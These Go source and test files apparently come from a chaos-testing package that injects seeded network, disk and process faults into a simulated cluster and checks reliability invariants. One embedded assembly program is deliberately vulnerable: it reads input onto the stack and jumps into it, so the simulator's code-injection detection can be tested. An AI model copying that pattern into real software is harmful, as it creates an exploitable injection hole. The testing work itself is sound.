		t.Fatalf("resumed mesh must inject again, got %v", err)
	}
}

// TestDiskFaults pins the disk injector: equal seeds give equal schedules,
// an ENOSPC event fails a whole burst of writes (what pushes a journal
// past its degradation threshold), and Quiesce heals the disk.
func TestDiskFaults(t *testing.T) {
	t.Run("deterministic", func(t *testing.T) {
		cfg := DiskConfig{Seed: 5, ENOSPC: 0.2, ENOSPCBurst: 3, ShortWrite: 0.2, SyncFail: 0.2, ReadCorrupt: 0.5}
		run := func() ([]string, DiskStats) {
			d := NewDisk(cfg)
			var outs []string
			for i := 0; i < 200; i++ {
				allow, err := d.BeforeWrite(100)
				outs = append(outs, fmt.Sprintf("w:%d:%v", allow, err))
				outs = append(outs, fmt.Sprintf("s:%v", d.BeforeSync()))
				p := []byte{0xAA, 0xBB, 0xCC, 0xDD}
				d.OnRead(p)
				outs = append(outs, fmt.Sprintf("r:%x", p))
			}
			return outs, d.Stats()
		}
		outA, statsA := run()
		outB, statsB := run()
		if statsA != statsB {
			t.Fatalf("same seed, different disk stats:\n  A: %+v\n  B: %+v", statsA, statsB)
		}
		if statsA.ENOSPCs == 0 || statsA.ShortWrites == 0 || statsA.SyncFails == 0 || statsA.ReadCorruptions == 0 {
			t.Fatalf("schedule left a fault class cold: %+v", statsA)
		}
		for i := range outA {
			if outA[i] != outB[i] {
				t.Fatalf("disk op %d diverged between equal-seed runs: %s vs %s", i, outA[i], outB[i])
			}
		}
	})
	t.Run("enospc-burst", func(t *testing.T) {
		d := NewDisk(DiskConfig{Seed: 5, ENOSPC: 1, ENOSPCBurst: 3})
		for i := 0; i < 3; i++ {
			allow, err := d.BeforeWrite(64)
			if allow != 0 || !errors.Is(err, ErrInjectedENOSPC) {
				t.Fatalf("burst write %d: want (0, ENOSPC), got (%d, %v)", i, allow, err)
			}
		}
		if got := d.Stats().ENOSPCs; got != 3 {
			t.Fatalf("burst of 3 recorded %d ENOSPCs", got)
		}
	})
	t.Run("quiesce", func(t *testing.T) {
		d := NewDisk(DiskConfig{Seed: 5, ENOSPC: 1, SyncFail: 1})
		d.Quiesce()
		if allow, err := d.BeforeWrite(64); allow != 64 || err != nil {
			t.Fatalf("quiesced disk must allow writes, got (%d, %v)", allow, err)
		}
		if err := d.BeforeSync(); err != nil {
			t.Fatalf("quiesced disk must allow fsync, got %v", err)
		}
	})
}
