//go:build race

package faultmesh

// campaignClients is the chaos-campaign client count under the race
// detector, scaled for its ~10x slowdown: the fault classes and invariants
// are identical, only the load is lighter.
const campaignClients = 60
