package faultmesh

// The chaos campaign: the capstone runner that drives a full in-process
// cluster — gateway, replicas, journals — through a seeded storm of
// network faults (via Mesh on the gateway's backend client), disk faults
// (via DiskFaults under every replica journal), and process faults
// (seeded drain/kill/restart rounds), then checks the global invariants
// the service contract promises to keep under ALL of it:
//
//  1. zero acknowledged-then-lost jobs and no stream framing violations,
//  2. no duplicate results — every job exactly one terminal line,
//  3. every injection detection delivered exactly once per victim job,
//  4. every result and event stream oracle-identical to a fault-free run,
//  5. all circuit breakers re-close once the faults stop,
//  6. every degraded journal recovers once the disk heals,
//  7. an expired propagated deadline is refused with 504,
//  8. the campaign actually injected faults (a quiet run proves nothing).
//
// The same seed replays the same fault schedule: every random choice —
// mesh draws, disk draws, conductor actions — comes from seeded
// splitmix64 streams.

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"sync"
	"time"

	"splitmem/internal/cluster"
	"splitmem/internal/serve"
	"splitmem/internal/serve/loadtest"
)

// campaignVictim is the paper's quickstart program: read attacker bytes
// onto the stack and jump into them. Under the split-memory architecture
// the jump is detected (injected bytes have no instruction-memory
// counterpart), so every run streams exactly one injection-detected
// event — the campaign's exactly-once delivery marker.
const campaignVictim = `
_start:
    sub esp, 1024
    mov ecx, esp
    mov ebx, 0
    mov edx, 1024
    mov eax, 3          ; read(0, buffer, 1024)
    int 0x80
    jmp ecx
`

// campaignSpin burns ~3.6M cycles across many stream slices and
// checkpoints, then exits 5 — the migration material: long enough to be
// mid-flight when its replica is drained, killed, or partitioned away.
const campaignSpin = `
_start:
    mov ecx, 1200000
spin:
    sub ecx, 1
    cmp ecx, 0
    jnz spin
    mov ebx, 5
    mov eax, 1
    int 0x80
`

// CampaignConfig shapes one chaos campaign.
type CampaignConfig struct {
	Seed     uint64
	Replicas int // cluster size (default 3)
	Clients  int // concurrent clients (default 200)
	Jobs     int // jobs per client (default 2: one victim, one spin)

	// MaxWall bounds the hostile load phase; exceeding it is itself a
	// campaign failure (a wedged cluster is a lost-jobs bug with extra
	// steps). Default 4m.
	MaxWall time.Duration

	// JournalDir holds the replica journals ("" = a fresh temp dir,
	// removed afterward).
	JournalDir string

	// Mesh and Disk override the fault rates; zero values get the
	// campaign defaults below.
	Mesh Config
	Disk DiskConfig
}

func (c CampaignConfig) withDefaults() CampaignConfig {
	if c.Replicas <= 0 {
		c.Replicas = 3
	}
	if c.Clients <= 0 {
		c.Clients = 200
	}
	if c.Jobs <= 0 {
		c.Jobs = 2
	}
	if c.MaxWall <= 0 {
		c.MaxWall = 4 * time.Minute
	}
	if !c.Mesh.Enabled() {
		c.Mesh = Config{
			Seed:          c.Seed,
			Latency:       0.05,
			Reset:         0.02,
			ResetMid:      0.01,
			Partition:     0.01,
			PartitionLen:  5,
			Asymmetric:    0.3,
			SlowLoris:     0.02,
			Truncate:      0.01,
			CorruptHeader: 0.01,
			Corrupt:       0.05,
			CorruptPaths:  []string{"/checkpoint"},
		}
	}
	if !c.Disk.Enabled() {
		c.Disk = DiskConfig{
			Seed:        c.Seed,
			ENOSPC:      0.05,
			ENOSPCBurst: 8,
			ShortWrite:  0.02,
			SyncFail:    0.02,
			ReadCorrupt: 0.001,
		}
	}
	return c
}

// Invariant is one checked campaign invariant.
type Invariant struct {
	Name   string `json:"name"`
	Passed bool   `json:"passed"`
	Detail string `json:"detail,omitempty"`
}

// Report is the campaign's machine-readable outcome (the CI artifact).
type Report struct {
	Seed     uint64 `json:"seed"`
	Replicas int    `json:"replicas"`
	Clients  int    `json:"clients"`
	Jobs     int    `json:"jobs_per_client"`

	Passed     bool        `json:"passed"`
	Invariants []Invariant `json:"invariants"`

	Load      *loadtest.Report `json:"load,omitempty"`
	MeshFault Stats            `json:"mesh_faults"`
	DiskFault DiskStats        `json:"disk_faults"`

	// Gateway is the gateway's /healthz document after quiesce: breaker
	// states, migration/hedge/deadline counters, per-replica views.
	Gateway json.RawMessage `json:"gateway,omitempty"`

	Wall time.Duration `json:"wall_ns"`
}

// check appends one invariant result.
func (r *Report) check(name string, passed bool, format string, args ...any) {
	detail := ""
	if !passed {
		detail = fmt.Sprintf(format, args...)
	}
	r.Invariants = append(r.Invariants, Invariant{Name: name, Passed: passed, Detail: detail})
	if !passed {
		r.Passed = false
	}
}

// WriteJSON renders the report (indented) to w.
func (r *Report) WriteJSON(w interface{ Write([]byte) (int, error) }) error {
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(r)
}

// jobClass names a workload class and its oracle.
type jobClass struct {
	name       string
	source     string
	stdinText  string
	detections int // expected injection detections per run

	events [][]byte         // fault-free oracle event objects
	result *serve.JobResult // fault-free oracle result
}

// classOf maps (client, job) onto a class: even slots are victims, odd
// slots are spins, so every client exercises both detection delivery and
// migration material.
func classOf(classes []*jobClass, c, j int) *jobClass {
	return classes[(c+j)%len(classes)]
}

// jobRecord accumulates what one (client, job) slot actually received.
type jobRecord struct {
	events  [][]byte
	results []*serve.JobResult
	rawRes  [][]byte
}

// RunCampaign executes one chaos campaign and returns its report. The
// returned error covers harness setup failures only; invariant violations
// land in the report.
func RunCampaign(cfg CampaignConfig) (*Report, error) {
	cfg = cfg.withDefaults()
	rep := &Report{Seed: cfg.Seed, Replicas: cfg.Replicas, Clients: cfg.Clients,
		Jobs: cfg.Jobs, Passed: true}
	start := time.Now()
	defer func() { rep.Wall = time.Since(start) }()

	dir := cfg.JournalDir
	if dir == "" {
		var err error
		dir, err = os.MkdirTemp("", "chaos-campaign-")
		if err != nil {
			return nil, err
		}
		defer os.RemoveAll(dir)
	}

	// Phase 0: fault-free oracles, one standalone replica per class.
	// Every job of a class shares one submission name: the name is embedded
	// in the event stream (the start event's proc/text fields), so per-slot
	// names would make every stream trivially differ from its oracle.
	classes := []*jobClass{
		{name: "chaos-victim", source: campaignVictim, stdinText: "\x90\x90\x90\x90", detections: 1},
		{name: "chaos-spin", source: campaignSpin},
	}
	for _, cl := range classes {
		if err := runOracle(cl); err != nil {
			return nil, fmt.Errorf("oracle %s: %w", cl.name, err)
		}
	}

	// Phase 1: boot the hostile cluster — mesh between gateway and
	// replicas, shared disk faults under every journal.
	mesh := New(cfg.Mesh)
	disk := NewDisk(cfg.Disk)
	rcfg := func(i int) serve.Config {
		return serve.Config{
			Workers:                 4,
			Backlog:                 512,
			StreamSlice:             25_000,
			CheckpointCycles:        25_000,
			JournalPath:             filepath.Join(dir, fmt.Sprintf("replica-%d.journal", i)),
			DiskFaults:              disk,
			JournalRecoveryInterval: 50 * time.Millisecond,
		}
	}
	h, err := cluster.NewHarnessFunc(cfg.Replicas, rcfg, cluster.Config{
		ProbeInterval: 25 * time.Millisecond,
		ProbeTimeout:  time.Second,
		FailThreshold: 3,
		// The campaign's contract is oracle-identical results for every
		// acked job, so a synthesized failed-after-retries is an invariant
		// violation, not an acceptable outcome: the budget must outlast the
		// storm (a single asymmetric partition window burns ~5 attempts on
		// the unknown-admission path alone).
		RetryBudget:      120,
		RetryBackoff:     10 * time.Millisecond,
		MaxRetryDelay:    250 * time.Millisecond,
		BreakerThreshold: 5,
		BreakerCooldown:  250 * time.Millisecond,
		HedgeDelay:       75 * time.Millisecond,
		HTTP:             mesh.Client(),
		NoTracing:        true,
	})
	if err != nil {
		return nil, err
	}
	defer h.Close()

	// Phase 2: the storm. A seeded conductor drains/kills/restarts
	// replicas while the clients hammer the gateway.
	var (
		recMu   sync.Mutex
		records = map[[2]int]*jobRecord{}
	)
	record := func(c, j int) *jobRecord {
		key := [2]int{c, j}
		r := records[key]
		if r == nil {
			r = &jobRecord{}
			records[key] = r
		}
		return r
	}
	stopConductor := make(chan struct{})
	conductorDone := make(chan struct{})
	go runConductor(cfg.Seed, h, stopConductor, conductorDone)

	loadDone := make(chan struct{})
	var load *loadtest.Report
	var loadErr error
	go func() {
		defer close(loadDone)
		load, loadErr = loadtest.Run(loadtest.Config{
			BaseURL:    h.URL(),
			Clients:    cfg.Clients,
			Jobs:       cfg.Jobs,
			Stream:     true,
			Seed:       cfg.Seed,
			Retry503:   true,
			MaxRetries: 400,
			Body: func(c, j int) ([]byte, error) {
				cl := classOf(classes, c, j)
				return json.Marshal(map[string]any{
					"name":       cl.name,
					"source":     cl.source,
					"stdin_text": cl.stdinText,
					"timeout_ms": 30000,
				})
			},
			OnEvent: func(c, j int, line []byte) {
				var frame struct {
					Event json.RawMessage `json:"event"`
				}
				if json.Unmarshal(line, &frame) != nil {
					return
				}
				recMu.Lock()
				record(c, j).events = append(record(c, j).events, frame.Event)
				recMu.Unlock()
			},
			OnResult: func(c, j int, raw []byte) {
				var res serve.JobResult
				if json.Unmarshal(raw, &res) != nil {
					return
				}
				recMu.Lock()
				r := record(c, j)
				r.results = append(r.results, &res)
				r.rawRes = append(r.rawRes, append([]byte(nil), raw...))
				recMu.Unlock()
			},
		})
	}()
	select {
	case <-loadDone:
	case <-time.After(cfg.MaxWall):
		close(stopConductor)
		<-conductorDone
		rep.check("campaign-wall", false, "load phase exceeded MaxWall %v", cfg.MaxWall)
		rep.MeshFault = mesh.Stats()
		rep.DiskFault = disk.Stats()
		return rep, nil
	}
	close(stopConductor)
	<-conductorDone
	if loadErr != nil {
		return nil, loadErr
	}
	rep.Load = load

	// Phase 3: quiesce. The faults stop; the cluster must heal on its own.
	mesh.Quiesce()
	disk.Quiesce()
	for i, n := range h.Nodes {
		if n.Server() == nil {
			if err := restartWithRetry(n); err != nil {
				rep.check("replica-restart", false, "replica %d never restarted post-quiesce: %v", i, err)
			}
		}
	}

	// Invariant 1+2: nothing acknowledged was lost, nothing duplicated.
	rep.check("zero-lost", load.Lost() == 0 && len(load.Failures) == 0 && load.GaveUp == 0,
		"lost=%d gaveUp=%d failures=%v", load.Lost(), load.GaveUp, load.Failures)
	dups, missing := 0, 0
	for c := 0; c < cfg.Clients; c++ {
		for j := 0; j < cfg.Jobs; j++ {
			recMu.Lock()
			r := records[[2]int{c, j}]
			recMu.Unlock()
			switch {
			case r == nil || len(r.results) == 0:
				missing++
			case len(r.results) > 1:
				dups++
			}
		}
	}
	rep.check("exactly-one-result", dups == 0 && missing == 0,
		"%d slots with duplicate results, %d with none (of %d)", dups, missing, cfg.Clients*cfg.Jobs)

	// Invariant 3+4: exactly-once detection delivery and oracle identity.
	badDetect, badOracle := "", ""
	for c := 0; c < cfg.Clients && (badDetect == "" || badOracle == ""); c++ {
		for j := 0; j < cfg.Jobs; j++ {
			recMu.Lock()
			r := records[[2]int{c, j}]
			recMu.Unlock()
			if r == nil || len(r.results) != 1 {
				continue // already counted above
			}
			cl := classOf(classes, c, j)
			if d := countDetections(r.events); badDetect == "" &&
				(d != cl.detections || r.results[0].Detections != cl.detections) {
				badDetect = fmt.Sprintf("c%d j%d (%s): %d detection events, result.Detections=%d, want %d (reason=%q error=%q)",
					c, j, cl.name, d, r.results[0].Detections, cl.detections,
					r.results[0].Reason, r.results[0].Error)
			}
			if badOracle == "" {
				if diff := diffOracle(cl, r); diff != "" {
					badOracle = fmt.Sprintf("c%d j%d (%s): %s", c, j, cl.name, diff)
				}
			}
		}
	}
	rep.check("exactly-once-detection", badDetect == "", "%s", badDetect)
	rep.check("oracle-identical", badOracle == "", "%s", badOracle)

	// Invariant 5: every breaker re-closes once the faults stop.
	breakerOK := awaitAll(10*time.Second, func() (bool, string) {
		for i, r := range h.Gateway.Replicas() {
			if r.State() != cluster.StateUp || r.Breaker() != "closed" {
				return false, fmt.Sprintf("replica %d: state=%s breaker=%s", i, r.State(), r.Breaker())
			}
		}
		return true, ""
	})
	rep.check("breakers-reclose", breakerOK == "", "%s", breakerOK)

	// Invariant 6: degraded journals recover. The mini-load gives every
	// replica fresh persists (recovery is attempted on the write path).
	mini, err := loadtest.Run(loadtest.Config{
		BaseURL: h.URL(), Clients: 4, Jobs: 3, Stream: true, Retry503: true, Seed: cfg.Seed + 1,
		Body: func(c, j int) ([]byte, error) {
			return json.Marshal(map[string]any{
				"name": fmt.Sprintf("heal-c%d-j%d", c, j), "source": campaignVictim,
				"stdin_text": "\x90\x90\x90\x90", "timeout_ms": 30000,
			})
		},
	})
	if err != nil {
		return nil, err
	}
	rep.check("heal-load", mini.Lost() == 0 && len(mini.Failures) == 0,
		"post-quiesce mini-load: lost=%d failures=%v", mini.Lost(), mini.Failures)
	journalOK := awaitAll(10*time.Second, func() (bool, string) {
		for i, n := range h.Nodes {
			srv := n.Server()
			if srv == nil {
				return false, fmt.Sprintf("replica %d: no server", i)
			}
			if srv.JournalDegraded() {
				return false, fmt.Sprintf("replica %d: journal still degraded", i)
			}
		}
		return true, ""
	})
	rep.check("journals-recover", journalOK == "", "%s", journalOK)

	// Invariant 7: an expired propagated deadline is a 504 at the door.
	status, kind := postExpiredDeadline(h.URL())
	rep.check("deadline-enforced", status == http.StatusGatewayTimeout && kind == "deadline-exceeded",
		"expired-deadline POST: status=%d error=%q, want 504 deadline-exceeded", status, kind)

	// Invariant 8: the campaign was actually hostile.
	rep.MeshFault = mesh.Stats()
	rep.DiskFault = disk.Stats()
	df := rep.DiskFault
	rep.check("faults-injected", rep.MeshFault.Total() > 0 &&
		df.ENOSPCs+df.ShortWrites+df.SyncFails > 0,
		"mesh faults=%d disk faults=%+v: the storm never landed", rep.MeshFault.Total(), df)

	if doc := fetchHealthz(h.URL()); doc != nil {
		rep.Gateway = doc
	}
	return rep, nil
}

// runOracle runs one class on a fault-free standalone replica and records
// its event objects and result — the identity every chaos run must match.
func runOracle(cl *jobClass) error {
	srv, err := serve.New(serve.Config{
		Workers: 2, Backlog: 16, StreamSlice: 25_000, CheckpointCycles: 25_000,
	})
	if err != nil {
		return err
	}
	defer srv.Close()
	front := httptest.NewServer(srv.Handler())
	defer front.Close()

	body, _ := json.Marshal(map[string]any{
		"name": cl.name, "source": cl.source,
		"stdin_text": cl.stdinText, "timeout_ms": 30000,
	})
	resp, err := http.Post(front.URL+"/v1/jobs?stream=1", "application/json", bytes.NewReader(body))
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("oracle job: status %d", resp.StatusCode)
	}
	dec := json.NewDecoder(resp.Body)
	for {
		var frame struct {
			Type   string           `json:"type"`
			Event  json.RawMessage  `json:"event"`
			Result *serve.JobResult `json:"result"`
		}
		if err := dec.Decode(&frame); err != nil {
			return fmt.Errorf("oracle stream: %v", err)
		}
		switch frame.Type {
		case "event":
			cl.events = append(cl.events, append(json.RawMessage(nil), frame.Event...))
		case "result":
			cl.result = frame.Result
			return nil
		}
	}
}

// diffOracle compares one job's delivered stream against its class
// oracle: event objects byte for byte, then the result's deterministic
// fields (reason, cycles, event count, detections, exit, stdout).
func diffOracle(cl *jobClass, r *jobRecord) string {
	if len(r.events) != len(cl.events) {
		return fmt.Sprintf("%d events, oracle has %d", len(r.events), len(cl.events))
	}
	for i := range r.events {
		if !bytes.Equal(r.events[i], cl.events[i]) {
			return fmt.Sprintf("event %d differs: got %s want %s", i, r.events[i], cl.events[i])
		}
	}
	got, want := r.results[0], cl.result
	if got.Reason != want.Reason || got.Cycles != want.Cycles ||
		got.EventCount != want.EventCount || got.Detections != want.Detections ||
		got.Exited != want.Exited || got.ExitStatus != want.ExitStatus ||
		got.Stdout != want.Stdout {
		return fmt.Sprintf("result differs: got %+v want %+v", got, want)
	}
	return ""
}

// countDetections counts injection-detected event objects.
func countDetections(events [][]byte) int {
	n := 0
	for _, e := range events {
		var ev struct {
			Kind string `json:"kind"`
		}
		if json.Unmarshal(e, &ev) == nil && ev.Kind == "injection-detected" {
			n++
		}
	}
	return n
}

// runConductor is the process-fault arm of the storm: a seeded splitmix64
// stream picks a replica and an action (drain-restart, kill-restart, or
// rest) every few hundred milliseconds until stopped. Every restarted
// replica replays its journal — through the read-corruption injector.
func runConductor(seed uint64, h *cluster.Harness, stop <-chan struct{}, done chan<- struct{}) {
	defer close(done)
	state := seed ^ 0x853C49E6748FEA9B
	next := func() uint64 {
		state += 0x9E3779B97F4A7C15
		z := state
		z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
		z = (z ^ (z >> 27)) * 0x94D049BB133111EB
		return z ^ (z >> 31)
	}
	sleep := func(d time.Duration) bool {
		t := time.NewTimer(d)
		defer t.Stop()
		select {
		case <-t.C:
			return true
		case <-stop:
			return false
		}
	}
	for {
		if !sleep(200*time.Millisecond + time.Duration(next()%300)*time.Millisecond) {
			return
		}
		node := h.Nodes[next()%uint64(len(h.Nodes))]
		switch next() % 3 {
		case 0: // graceful drain, then bounce
			node.Drain()
			if !sleep(150*time.Millisecond + time.Duration(next()%200)*time.Millisecond) {
				node.Kill()
				restartWithRetry(node)
				return
			}
			node.Kill()
			restartWithRetry(node)
		case 1: // hard kill, then bounce
			node.Kill()
			if !sleep(100*time.Millisecond + time.Duration(next()%200)*time.Millisecond) {
				restartWithRetry(node)
				return
			}
			restartWithRetry(node)
		case 2: // rest round
		}
	}
}

// restartWithRetry boots a fresh server into the slot, retrying because a
// journal replay can hit an injected read corruption (the typed
// ErrJournalCorrupt open failure); the corruption lives in the injector's
// stream, not the file, so a retry redraws and recovers.
func restartWithRetry(n *cluster.Node) error {
	var err error
	for attempt := 0; attempt < 40; attempt++ {
		if err = n.Restart(); err == nil {
			return nil
		}
		time.Sleep(50 * time.Millisecond)
	}
	return err
}

// awaitAll polls cond until it holds or the timeout passes; returns "" on
// success, the last failure detail otherwise.
func awaitAll(timeout time.Duration, cond func() (bool, string)) string {
	deadline := time.Now().Add(timeout)
	detail := ""
	for {
		var ok bool
		if ok, detail = cond(); ok {
			return ""
		}
		if time.Now().After(deadline) {
			return detail
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// postExpiredDeadline submits a job whose propagated deadline is already
// in the past and reports the gateway's verdict.
func postExpiredDeadline(base string) (status int, kind string) {
	body, _ := json.Marshal(map[string]any{"name": "expired", "source": campaignVictim,
		"stdin_text": "x", "timeout_ms": 1000})
	req, err := http.NewRequest(http.MethodPost, base+"/v1/jobs", bytes.NewReader(body))
	if err != nil {
		return 0, ""
	}
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set(serve.DeadlineHeader,
		strconv.FormatInt(time.Now().Add(-time.Second).UnixMilli(), 10))
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return 0, ""
	}
	defer resp.Body.Close()
	var e struct {
		Error string `json:"error"`
	}
	json.NewDecoder(resp.Body).Decode(&e)
	return resp.StatusCode, e.Error
}

// fetchHealthz snapshots the gateway's healthz document for the report.
func fetchHealthz(base string) json.RawMessage {
	resp, err := http.Get(base + "/healthz")
	if err != nil {
		return nil
	}
	defer resp.Body.Close()
	var raw json.RawMessage
	if json.NewDecoder(resp.Body).Decode(&raw) != nil {
		return nil
	}
	return raw
}
