package faultmesh

// The chaos-campaign acceptance test: a seeded hostile-environment run —
// mesh faults on every gateway→replica wire, disk faults under every
// journal, a conductor draining/killing/restarting replicas — after which
// every campaign invariant must hold: zero acked-then-lost jobs, no
// duplicate results, exactly-once detection delivery, oracle-identical
// outputs, breakers re-closed, journals recovered.
//
// Client count is scaled down under -race (campaignClients in
// race_on_test.go / race_off_test.go) — the race detector's ~10x slowdown
// would otherwise push the run past the campaign's wall budget.

import (
	"strings"
	"testing"
	"time"
)

func TestChaosCampaign(t *testing.T) {
	if testing.Short() {
		t.Skip("chaos campaign is a multi-second hostile load run")
	}
	rep, err := RunCampaign(CampaignConfig{
		Seed:    42,
		Clients: campaignClients,
		MaxWall: 4 * time.Minute,
	})
	if err != nil {
		t.Fatalf("campaign setup: %v", err)
	}
	t.Logf("campaign seed=%d clients=%d wall=%v", rep.Seed, rep.Clients, rep.Wall.Round(time.Millisecond))
	t.Logf("mesh faults: %+v", rep.MeshFault)
	t.Logf("disk faults: %+v", rep.DiskFault)
	if rep.Load != nil {
		t.Logf("%s", rep.Load.String())
	}
	for _, inv := range rep.Invariants {
		if inv.Passed {
			t.Logf("invariant %-24s ok", inv.Name)
		} else {
			t.Errorf("invariant %-24s FAILED: %s", inv.Name, inv.Detail)
		}
	}
	if !rep.Passed {
		t.Fatalf("campaign failed (reproduce with seed %d)", rep.Seed)
	}

	// The report must round-trip as the CI artifact.
	var buf strings.Builder
	if err := rep.WriteJSON(&buf); err != nil {
		t.Fatalf("report encode: %v", err)
	}
	for _, want := range []string{`"seed"`, `"invariants"`, `"mesh_faults"`, `"disk_faults"`} {
		if !strings.Contains(buf.String(), want) {
			t.Fatalf("report JSON missing %s:\n%s", want, buf.String())
		}
	}
}
