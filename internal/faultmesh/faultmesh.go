// Package faultmesh injects transport- and disk-level faults into the
// serving stack: the layer where real clusters die. The architectural
// injector (internal/chaos.Injector) attacks the simulated hardware, the
// host injector attacks one replica's process machinery, and the cluster
// injector attacks whole replicas — but nothing before this package
// attacked the *wires and disks between* the tiers. The mesh wraps the
// gateway's replica-facing http.RoundTripper with seeded latency spikes,
// connection resets (before delivery and mid-response), symmetric and
// asymmetric partitions, slow-loris byte trickling, response truncation,
// and header/body corruption; DiskFaults (disk.go) feeds ENOSPC, short
// writes, fsync failures, and read corruption into the serve journal.
//
// Determinism contract: every fault decision is drawn from a per-link
// splitmix64 stream seeded by (Config.Seed, link host). The nth request on
// a given link draws the same fault plan for the same seed and config
// regardless of wall-clock timing or interleaving across links, so a
// failing chaos campaign is reproducible from its logged seed.
package faultmesh

import (
	"errors"
	"io"
	"net/http"
	"sync"
	"sync/atomic"
	"time"
)

// Errors the mesh returns in place of transport-level failures. They
// surface to the gateway exactly as a real reset or partition would: as a
// *url.Error from http.Client.Do.
var (
	// ErrInjectedReset stands in for ECONNRESET: the connection died
	// before (or while) the request was delivered.
	ErrInjectedReset = errors.New("faultmesh: injected connection reset")
	// ErrInjectedPartition stands in for a network partition: the packet
	// left, nothing ever came back.
	ErrInjectedPartition = errors.New("faultmesh: injected partition (no route to host)")
)

// Config sets the per-fault-class injection rates. Every rate is a
// probability in [0, 1] evaluated once per request on a link (partition
// windows, once armed, consume requests without further draws). The zero
// value injects nothing.
type Config struct {
	// Seed drives every per-link stream; equal seeds and configs inject
	// identical fault schedules.
	Seed uint64

	Latency    float64       // per request: delay delivery by a draw from [LatencyMin, LatencyMax]
	LatencyMin time.Duration // default 1ms
	LatencyMax time.Duration // default 20ms

	Reset    float64 // per request: reset the connection before delivery
	ResetMid float64 // per request: deliver headers, then reset mid-body

	// Partition opens a partition window on the link: the next
	// PartitionLen requests (default 6) are swallowed. Asymmetric is the
	// probability that a given window is one-way: requests reach the
	// replica (and take effect there) but every response is lost — the
	// classic acknowledged-but-unconfirmed hazard.
	Partition    float64
	PartitionLen int
	Asymmetric   float64

	SlowLoris      float64       // per request: trickle the first SlowLorisBytes of the response one byte at a time
	SlowLorisDelay time.Duration // per-byte delay, default 1ms
	SlowLorisBytes int           // default 64

	Truncate float64 // per request: end the response body early (clean EOF mid-stream)

	CorruptHeader float64 // per request: mangle a response header value
	Corrupt       float64 // per request: flip one bit of the response body
	// CorruptPaths restricts body corruption to requests whose URL path
	// contains one of these substrings (empty = all paths). Campaigns that
	// assert oracle-identical outputs point this at the checkpoint-fetch
	// paths, where the snapshot CRC gate catches every flip.
	CorruptPaths []string
}

func (c Config) withDefaults() Config {
	if c.LatencyMin <= 0 {
		c.LatencyMin = time.Millisecond
	}
	if c.LatencyMax < c.LatencyMin {
		c.LatencyMax = 20 * time.Millisecond
		if c.LatencyMax < c.LatencyMin {
			c.LatencyMax = c.LatencyMin
		}
	}
	if c.PartitionLen <= 0 {
		c.PartitionLen = 6
	}
	if c.SlowLorisDelay <= 0 {
		c.SlowLorisDelay = time.Millisecond
	}
	if c.SlowLorisBytes <= 0 {
		c.SlowLorisBytes = 64
	}
	return c
}

// Enabled reports whether any fault class has a nonzero rate.
func (c Config) Enabled() bool {
	return c.Latency > 0 || c.Reset > 0 || c.ResetMid > 0 || c.Partition > 0 ||
		c.SlowLoris > 0 || c.Truncate > 0 || c.CorruptHeader > 0 || c.Corrupt > 0
}

// Stats counts injected transport faults by class.
type Stats struct {
	Latencies         uint64
	Resets            uint64
	MidResets         uint64
	PartitionWindows  uint64
	PartitionDrops    uint64
	SlowLoris         uint64
	Truncations       uint64
	HeaderCorruptions uint64
	BodyCorruptions   uint64
}

// Total sums every injected fault.
func (s Stats) Total() uint64 {
	return s.Latencies + s.Resets + s.MidResets + s.PartitionDrops +
		s.SlowLoris + s.Truncations + s.HeaderCorruptions + s.BodyCorruptions
}

// Mesh is the transport fault injector. One Mesh wraps every
// gateway→replica link; per-link state keeps the fault schedule of each
// link independent and deterministic.
type Mesh struct {
	cfg      Config
	disabled atomic.Bool

	mu    sync.Mutex
	links map[string]*link

	latencies         atomic.Uint64
	resets            atomic.Uint64
	midResets         atomic.Uint64
	partitionWindows  atomic.Uint64
	partitionDrops    atomic.Uint64
	slowLoris         atomic.Uint64
	truncations       atomic.Uint64
	headerCorruptions atomic.Uint64
	bodyCorruptions   atomic.Uint64
}

// link holds one destination host's stream state.
type link struct {
	mu       sync.Mutex
	state    uint64 // splitmix64
	partLeft int    // requests remaining in the open partition window
	partAsym bool
}

// New creates a mesh. A nil return never happens; a zero config injects
// nothing but still routes.
func New(cfg Config) *Mesh {
	return &Mesh{cfg: cfg.withDefaults(), links: map[string]*link{}}
}

// Quiesce stops all injection (in-flight faulted bodies finish as
// planned). Campaigns call it before checking recovery invariants: the
// cluster must heal once the hostile weather stops.
func (m *Mesh) Quiesce() { m.disabled.Store(true) }

// Resume re-enables injection after a Quiesce. Stream positions are kept:
// the schedule continues where it left off.
func (m *Mesh) Resume() { m.disabled.Store(false) }

// Stats snapshots the per-class injection counters.
func (m *Mesh) Stats() Stats {
	return Stats{
		Latencies:         m.latencies.Load(),
		Resets:            m.resets.Load(),
		MidResets:         m.midResets.Load(),
		PartitionWindows:  m.partitionWindows.Load(),
		PartitionDrops:    m.partitionDrops.Load(),
		SlowLoris:         m.slowLoris.Load(),
		Truncations:       m.truncations.Load(),
		HeaderCorruptions: m.headerCorruptions.Load(),
		BodyCorruptions:   m.bodyCorruptions.Load(),
	}
}

// Transport wraps an inner RoundTripper (nil = http.DefaultTransport)
// with the mesh's fault schedule.
func (m *Mesh) Transport(inner http.RoundTripper) http.RoundTripper {
	if inner == nil {
		inner = http.DefaultTransport
	}
	return &transport{mesh: m, inner: inner}
}

// Client is a convenience: an http.Client whose every request crosses the
// mesh.
func (m *Mesh) Client() *http.Client {
	return &http.Client{Transport: m.Transport(nil)}
}

func (m *Mesh) link(host string) *link {
	m.mu.Lock()
	defer m.mu.Unlock()
	l := m.links[host]
	if l == nil {
		l = &link{state: m.cfg.Seed ^ fnv64(host) ^ 0x2545F4914F6CDD1D}
		m.links[host] = l
	}
	return l
}

func fnv64(s string) uint64 {
	h := uint64(14695981039346656037)
	for i := 0; i < len(s); i++ {
		h ^= uint64(s[i])
		h *= 1099511628211
	}
	return h
}

// next advances a link's splitmix64 stream. Callers hold l.mu.
func (l *link) next() uint64 {
	l.state += 0x9E3779B97F4A7C15
	z := l.state
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
	z = (z ^ (z >> 27)) * 0x94D049BB133111EB
	return z ^ (z >> 31)
}

